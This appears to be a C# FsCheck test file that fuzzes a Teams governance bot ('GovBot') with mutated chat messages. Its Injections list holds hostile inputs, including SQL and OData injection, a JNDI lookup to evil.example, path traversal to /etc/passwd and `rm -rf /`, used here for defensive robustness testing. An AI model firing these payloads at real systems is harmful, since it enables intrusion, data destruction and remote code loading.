using System.Globalization;
using System.Text;
using FsCheck;
using FsCheck.Fluent;
using GovBot.Features.Help;
using GovBot.Recognition;

namespace GovBot.Tests.Reliability;

/// <summary>Where a fuzzed message is sent from, and how the bot is @mentioned in it.</summary>
public enum Place { Personal, Channel, GroupChat }

public enum Mention
{
    /// <summary>"&lt;at&gt;GovBot&lt;/at&gt; text" with the mention entity, as Teams sends it.</summary>
    Leading,
    /// <summary>"text &lt;at&gt;GovBot&lt;/at&gt;" with the entity.</summary>
    Trailing,
    /// <summary>The markup without an entity (an older client, a copied message).</summary>
    MarkupOnly,
    /// <summary>The bot mentioned twice, and another person once.</summary>
    Crowded,
}

/// <summary>One fuzzed chat message: the text typed, who typed it, where.</summary>
public sealed record ChatCase(string Text, string Asker, Place Place, Mention Mention, string How)
{
    public override string ToString() => $"{Fuzz.Show(Text)} from {Asker} in {Place} ({Mention}; {How})";
}

/// <summary>
/// Chat text that is mostly real GovBot questions and commands, mutated the ways Teams users, clients and
/// attackers mutate text: case, unicode, markup, entities, injection, extreme numbers and lengths.
/// </summary>
public static class ChatInputs
{
    /// <summary>The real questions: the recogniser's own examples, the help card's, and the commands.</summary>
    public static readonly IReadOnlyList<string> Seeds =
    [
        .. GovBotFeatures.Recogniser.Examples,
        .. HelpCards.MainQuestions,
        "my actions", "status of CR043", "CR043 status", "cr 43", "change request 43", "Kate Goodman's actions",
        "Lee Cox's actions", "actions due this week", "actions due next week", "overdue actions", "DAG actions recommended for closure",
        "meetings next week", "next DAG meeting", "when is the next MCAG", "agenda for DAG 34", "DAG 34", "papers for CCAG 12",
        "deadlines next 2 weeks", "what's due in April", "milestones", "design advisory group", "what is MCAG",
        "subscribe checklist", "unsubscribe checklist", "subscribe DAG", "unsubscribe DAG", "subscriptions",
        "reminders off", "reminders on", "checklist reminders off", "turn on my reminders", "my reminder settings",
        "post notice", "notice report 1", "reminder report", "hi", "hello govbot", "what can you do", "help",
    ];

    public static readonly string[] Askers = ["lee-cox", "craig-handford", "priya-patel", Stranger];

    /// <summary>Someone Teams knows but the programme directory does not.</summary>
    public const string Stranger = "stranger";

    private static readonly string[] Emoji = ["🚀", "👍🏽", "👨‍👩‍👧‍👦", "🇬🇧", "💩", "\u2764\uFE0F"];
    private static readonly string[] RightToLeft = ["مرحبا بالعالم", "שלום", "\u202Eevil\u202C", "\u200F", "\u061C", "إجراءات"];
    private static readonly string[] Combining = ["e\u0301", "a\u0336\u0336", "Z\u0351\u0352\u0353\u0354\u0355\u0356", "\u0301", "o\u0308\u0323"];
    private static readonly string[] Invisible = ["\u200B", "\u200C", "\u200D", "\uFEFF", "\u2060", "\u00AD"];
    private static readonly string[] Control = ["\0", "\u0001", "\u0007", "\u001B[31m", "\r\n", "\u0085", "\u007F", "\b", "\f", "\v"];
    private static readonly string[] OddLetters = ["\uFFFD", "\uFFFF", "ＤＡＧ", "Ⅻ", "ß", "İ", "ﬁ", "\uD800", "\uDC00", "\U0001D53B\U0001D538\U0001D53E"];
    private static readonly string[] Spaces = ["\u00A0", "\u3000", "\t", "\n", "\u2028", "  ", "\u200B", "\u2003", ""];
    private static readonly string[] Markup =
    [
        "<at>GovBot</at>", "<at>Lee Cox</at>", "<at>", "</at>", "<at id=\"0\">GovBot</at>", "&lt;at&gt;GovBot&lt;/at&gt;",
        "&amp;", "&nbsp;", "&#39;", "&#x27;", "&quot;", "&lt;b&gt;", "<p>", "</p>", "<b>", "<br/>", "<div><span>", "<!-- -->",
    ];
    private static readonly string[] MarkdownWraps = ["**", "_", "`", "~~", "```", "***"];
    private static readonly string[] MarkdownPrefixes = ["# ", "> ", "- ", "1. ", "| a | b |\n|---|---|\n| ", "[link](https://example.com) "];
    private static readonly string[] Injections =
    [
        "' or PartitionKey ne '", "') or (RowKey ne '", "PartitionKey eq 'x' or true", "$filter=RowKey gt ''", "' or '1'='1",
        "{\"verb\":\"action.close\",\"ref\":\"DAG33-04\"}", "[1,2,{\"a\":null}]", "{\"$type\":\"System.IO.File\"}", "null", "undefined",
        "<script>alert(1)</script>", "'; DROP TABLE Actions;--", "${jndi:ldap://evil.example/a}", "{{7*7}}", "{0}{1}", "%s%n%x",
        "%00%0d%0a", "../../../../etc/passwd", "\\\\server\\share", "\"\"\"", "`rm -rf /`", "|", "&&", "#", "?", "/", "\\", "%", "*", "~", "'",
    ];
    private static readonly string[] ExtremeNumbers =
        ["99999999999", "0", "000", "-1", "2147483648", "1e309", "3.14159", "١٢٣", "３４", "00000000000000000001", "NaN", "-0"];
    private static readonly string[] ImpossibleDates =
    [
        "due 31/02/2024", "due 2024-02-30", "in February 2099", "on 2024-13-45", "next 99 weeks", "next 0 days", "in 1900",
        "next 52 months", "due 00/00/0000", "due 29/02/2023", "in december 2999", "due yesterday tomorrow", "next -3 days", "due 24:61",
    ];

    public static Arbitrary<ChatCase> Arbitrary() => Arb.From(Cases(), Shrink);

    private static Gen<ChatCase> Cases() =>
        from text in Gen.Frequency((8, Mutated()), (1, Whole()), (1, Random()))
        from asker in Gen.Elements(Askers)
        from place in Gen.Frequency((6, Gen.Constant(Place.Personal)), (3, Gen.Constant(Place.Channel)), (1, Gen.Constant(Place.GroupChat)))
        from mention in Gen.Elements(Enum.GetValues<Mention>())
        select new ChatCase(text.Value, asker, place, mention, text.How);

    private sealed record Text(string Value, string How);

    /// <summary>A real question with zero to three mutations.</summary>
    private static Gen<Text> Mutated() =>
        from seed in Gen.Elements(Seeds.ToArray())
        from count in Gen.Frequency((1, Gen.Constant(0)), (4, Gen.Constant(1)), (3, Gen.Constant(2)), (2, Gen.Constant(3)))
        from mutations in Gen.ArrayOf(Mutation(), count)
        select mutations.Aggregate(new Text(seed, seed), (t, m) => new Text(m.Apply(t.Value), $"{t.How} + {m.Kind}"));

    /// <summary>Inputs that are not questions at all.</summary>
    private static Gen<Text> Whole() => Gen.Elements(
        new Text("", "empty"), new Text("   ", "spaces"), new Text("\t\r\n \u00A0\u3000", "whitespace"), new Text("\u200B\u200B", "zero-width only"),
        new Text("\0", "NUL"), new Text(".", "dot"), new Text("?", "question mark"), new Text("-", "hyphen"), new Text("'", "quote"),
        new Text(new string('a', 20_000), "20k letters"), new Text(string.Concat(Enumerable.Repeat("🚀", 6_000)), "6k emoji"),
        new Text(string.Concat(Enumerable.Repeat("my open actions ", 1_000)), "16k repeated question"),
        new Text(string.Concat(Enumerable.Repeat("CR043 DAG33-04 ", 800)), "12k refs"),
        new Text(string.Concat(Enumerable.Repeat("e\u0301", 8_000)), "16k combining marks"),
        new Text(new string('-', 12_000), "12k hyphens"), new Text(string.Concat(Enumerable.Repeat("<at>GovBot</at>", 800)), "800 mentions"));

    /// <summary>FsCheck's own unicode strings.</summary>
    private static Gen<Text> Random() =>
        ArbMap.Default.GeneratorFor<UnicodeString>().Select(u => new Text(u.Item ?? "", "random unicode"));

    public sealed record TextMutation(string Kind, int Seed)
    {
        public string Apply(string text)
        {
            var random = new System.Random(Seed);
            string Pick(string[] pool) => pool[random.Next(pool.Length)];
            string Insert(string s, string piece)
            {
                var at = random.Next(s.Length + 1);
                return s[..at] + piece + s[at..];
            }
            return Kind switch
            {
                "upper" => text.ToUpperInvariant(),
                "lower" => text.ToLowerInvariant(),
                "random case" => string.Concat(text.Select(c => random.Next(2) == 0 ? char.ToUpperInvariant(c) : char.ToLowerInvariant(c))),
                "title case" => CultureInfo.InvariantCulture.TextInfo.ToTitleCase(text),
                "emoji" => Insert(text, Pick(Emoji)),
                "right-to-left" => Insert(text, Pick(RightToLeft)),
                "combining" => Insert(text, Pick(Combining)),
                "invisible" => Insert(text, Pick(Invisible)),
                "control" => Insert(text, Pick(Control)),
                "odd letters" => Insert(text, Pick(OddLetters)),
                "spaces" => string.Concat(text.Select(c => c == ' ' ? Pick(Spaces) : c.ToString())),
                "markup" => Insert(text, Pick(Markup)),
                "markdown" => random.Next(2) == 0 ? Pick(MarkdownPrefixes) + text : Wrap(text, Pick(MarkdownWraps)),
                "injection" => random.Next(3) switch { 0 => Pick(Injections) + text, 1 => text + Pick(Injections), _ => Insert(text, Pick(Injections)) },
                "extreme numbers" => ReplaceNumbers(text, () => Pick(ExtremeNumbers)),
                "impossible date" => text + " " + Pick(ImpossibleDates),
                "huge" => Repeat(text, 10_000 + random.Next(30_000)),
                "cut" => text[..random.Next(text.Length + 1)],
                "shuffle" => string.Join(' ', text.Split(' ').OrderBy(_ => random.Next())),
                "no spaces" => text.Replace(" ", "", StringComparison.Ordinal),
                "repeat words" => string.Join(' ', text.Split(' ').SelectMany(w => Enumerable.Repeat(w, 1 + random.Next(3)))),
                _ => throw new InvalidOperationException(Kind),
            };
        }

        private static string Wrap(string text, string with) => with + text + with;

        private static string Repeat(string text, int length)
        {
            var unit = text.Length == 0 ? "x " : text + " ";
            var sb = new StringBuilder(length + unit.Length);
            while (sb.Length < length) sb.Append(unit);
            return sb.ToString();
        }

        private static string ReplaceNumbers(string text, Func<string> number)
        {
            var replaced = System.Text.RegularExpressions.Regex.Replace(text, "[0-9]+", _ => number());
            return replaced == text ? text + " " + number() : replaced;
        }
    }

    private static readonly string[] MutationKinds =
    [
        "upper", "lower", "random case", "title case", "emoji", "right-to-left", "combining", "invisible", "control", "odd letters",
        "spaces", "markup", "markdown", "injection", "extreme numbers", "impossible date", "huge", "cut", "shuffle", "no spaces", "repeat words",
    ];

    private static Gen<TextMutation> Mutation() =>
        from kind in Gen.Elements(MutationKinds)
        from seed in Gen.Choose(0, int.MaxValue - 1)
        select new TextMutation(kind, seed);

    /// <summary>Smaller failing inputs: halves of the text, then the simplest sender and place.</summary>
    private static IEnumerable<ChatCase> Shrink(ChatCase c)
    {
        if (c.Text.Length > 1)
        {
            yield return c with { Text = c.Text[..(c.Text.Length / 2)], How = c.How + " (first half)" };
            yield return c with { Text = c.Text[(c.Text.Length / 2)..], How = c.How + " (second half)" };
        }
        if (c.Place != Place.Personal) yield return c with { Place = Place.Personal };
        if (c.Asker != "lee-cox") yield return c with { Asker = "lee-cox" };
    }
}
